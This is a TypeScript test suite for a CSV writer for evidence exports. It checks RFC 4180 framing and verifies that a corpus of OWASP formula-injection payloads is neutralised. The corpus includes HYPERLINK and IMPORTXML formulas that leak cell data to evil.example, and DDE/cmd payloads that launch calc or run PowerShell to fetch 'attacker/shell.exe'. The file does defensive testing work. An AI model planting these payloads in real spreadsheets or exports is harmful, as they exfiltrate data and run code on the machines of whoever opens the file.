/**
 * CSV for examiners: RFC 4180 framing, and a corpus of known formula-injection payloads
 * (OWASP "CSV Injection") that must all come out as inert text, while real numbers stay numbers.
 * A small RFC 4180 parser here reads the output back, so the tests check what a spreadsheet
 * would see, not only the escaping.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, csvHeader, csvRow, csvTable, isFormulaLike } from '../../src/evidence/csv.js';

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF records), strict about framing. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      continue;
    }
    throw new Error(`expected , or CRLF at ${i}, got ${JSON.stringify(text[i])}`);
  }
  if (row.length) throw new Error('last record lacks CRLF');
  return rows;
}

/** What a spreadsheet would see first, after leading whitespace. */
const looksLikeFormula = (cell: string) => /^[\s\u200b-\u200d\u2060]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/.test(cell) || /^[\t\r]/.test(cell);

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker/shell.exe)'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '-1+1',
  '-1',
  '=1',
  '+1',
  '\t=1',
  '\r=1',
  '\t',
  '   =1',
  ' \t =1',
  '\n=1',
  '\u00a0=1',
  '\u3000=1',
  '\ufeff=1',
  '\u200b=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '@',
  '=',
];

describe('evidence csv: RFC 4180', () => {
  it('ends records with CRLF and quotes cells with comma, quote, CR or LF, doubling quotes', () => {
    assert.equal(csvRow(['a', 'b']), 'a,b\r\n');
    assert.equal(csvRow(['a,b', 'say "hi"', 'two\nlines', 'cr\ronly', 'crlf\r\nx']), '"a,b","say ""hi""","two\nlines","cr\ronly","crlf\r\nx"\r\n');
    assert.equal(csvRow([]), '\r\n');
    assert.equal(csvRow(['']), '\r\n');
    assert.equal(csvRow([null, undefined, '', 'x']), ',,,x\r\n');
    assert.equal(csvRow([true, false]), 'true,false\r\n');
    assert.equal(csvRow(['/accounts/{id}', 'GET', 'Zoë 日本']), '/accounts/{id},GET,Zoë 日本\r\n');
  });

  it('round-trips awkward values through an RFC 4180 reader', () => {
    const values = ['plain', 'a,b', '"quoted"', '""', 'line1\r\nline2', 'lf\n', ' leading space', 'trailing ', "it's", ''];
    assert.deepEqual(parseCsv(csvRow(values)), [values]);
  });

  it('writes numbers passed as numbers as they are, negatives included', () => {
    assert.equal(csvRow([0, -1, 3.25, -0.5, 1e21, -1e-7, 9007199254740991]), '0,-1,3.25,-0.5,1e+21,-1e-7,9007199254740991\r\n');
    assert.throws(() => csvCell(NaN), TypeError);
    assert.throws(() => csvCell(Infinity), TypeError);
    assert.throws(() => csvCell(-Infinity), TypeError);
  });

  it('builds headers and small tables, refusing ragged rows', () => {
    assert.equal(csvHeader(['seq', 'time (UTC)', 'outcome']), 'seq,time (UTC),outcome\r\n');
    assert.equal(csvTable(['seq', 'reason'], [[1, 'RAMPART_OK'], [2, '=evil()']]), `seq,reason\r\n1,RAMPART_OK\r\n2,"'=evil()"\r\n`);
    assert.throws(() => csvTable(['a', 'b'], [[1]]), /1 cells, the header 2/);
  });
});

describe('evidence csv: formula injection', () => {
  it('neutralises every payload of the corpus: quoted, prefixed with a single quote, original kept', () => {
    for (const p of PAYLOADS) {
      assert.ok(isFormulaLike(p), `corpus entry is a formula: ${JSON.stringify(p)}`);
      const out = csvCell(p);
      assert.ok(out.startsWith(`"'`), `${JSON.stringify(p)} -> ${JSON.stringify(out)}`);
      const [[cell]] = parseCsv(`${out}\r\n`) as [[string]];
      assert.equal(cell, `'${p}`, 'the reader gets the original behind a single quote');
      assert.ok(!looksLikeFormula(cell), `${JSON.stringify(cell)} would still be a formula`);
    }
  });

  it('neutralises payloads wherever they sit in a row, and the row still parses to the same cells', () => {
    const row = ['1', ...PAYLOADS, 'after'];
    const [parsed] = parseCsv(csvRow(row)) as [string[]];
    assert.equal(parsed.length, row.length);
    parsed.forEach((cell, i) => {
      assert.ok(!looksLikeFormula(cell), `cell ${i}: ${JSON.stringify(cell)}`);
      assert.equal(cell.replace(/^'/, ''), row[i]);
    });
  });

  it('leaves ordinary text alone, including values with a formula character later on', () => {
    for (const s of ['GET', 'a=b', 'x+y', 'user@example.com', '2026-01-01T00:00:00Z', '/accounts/{id}?q=-1', "'already quoted", 'RAMPART_SCOPE_MISSING', '1-2', '']) {
      assert.equal(isFormulaLike(s), false, s);
      assert.ok(!csvCell(s).startsWith(`"'`), s);
    }
  });

  it('treats a string that looks like a number as text, unlike the number itself', () => {
    assert.equal(csvCell(-1), '-1');
    assert.equal(csvCell('-1'), `"'-1"`);
    assert.equal(csvCell('-1+1'), `"'-1+1"`);
    assert.equal(csvCell('1'), '1');
  });
});
